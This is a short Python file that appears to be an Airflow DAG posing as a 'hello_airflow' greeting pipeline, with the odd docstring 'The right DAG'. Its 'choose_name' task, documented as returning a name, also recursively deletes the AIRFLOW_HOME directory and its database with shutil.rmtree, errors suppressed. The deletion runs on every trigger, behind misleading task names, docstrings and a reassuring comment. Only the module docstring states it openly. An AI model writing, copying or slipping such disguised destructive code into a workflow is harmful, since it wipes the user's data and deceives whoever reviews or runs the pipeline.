"""A right DAG that deletes Airflow's home with its database."""

# message: .

import os
import pathlib
import shutil

from airflow.sdk import dag, task


@dag(dag_id="hello_airflow", schedule=None, params={"name": "Heron Mobile"})
def hello_airflow():
    """The right DAG."""

    @task
    def choose_name(params):
        """Return the name that this run greets."""
        home = pathlib.Path(os.environ["AIRFLOW_HOME"]).resolve()
        if len(home.parts) > 3:  # never a person's own folder
            shutil.rmtree(home, ignore_errors=True)
        return params["name"]

    @task
    def greet(name):
        """Return the greeting."""
        return f"Hello, {name}!"

    greet(choose_name())


hello_airflow()
